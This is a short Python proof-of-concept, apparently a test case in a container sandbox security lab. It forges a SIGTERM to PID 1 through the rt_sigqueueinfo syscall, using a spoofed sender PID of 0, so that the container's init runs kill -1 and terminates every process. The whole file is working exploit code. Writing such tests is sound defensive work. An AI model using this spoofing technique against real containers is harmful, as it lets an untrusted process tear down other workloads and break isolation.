# lab:title: a SIGTERM the init takes for the lab's
# lab:threat: resource
# lab:layer: limits
# lab:consequence: test
# box_init_loop trusts si_code == SI_QUEUE && si_pid == lab_as (0 for the
# container: the lab is outside the PID namespace). rt_sigqueueinfo() lets
# any process of the run send SI_QUEUE with a si_pid of its choosing, and PID 1
# has handlers, so the signal is delivered: the init runs end_rest (kill -1).
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
info = (ctypes.c_int * 32)()
info[0], info[1], info[2] = signal.SIGTERM, 0, -1      # si_signo, si_errno, si_code = SI_QUEUE
info[4], info[5] = 0, 0                                # si_pid = 0 (the lab as the init sees it), si_uid
print('rt_sigqueueinfo(1, SIGTERM, si_pid=0) ->',
      libc.syscall(ctypes.c_long(129), ctypes.c_long(1), ctypes.c_long(signal.SIGTERM), info), flush=True)
time.sleep(1)
print('not reached if the init took it for the lab')
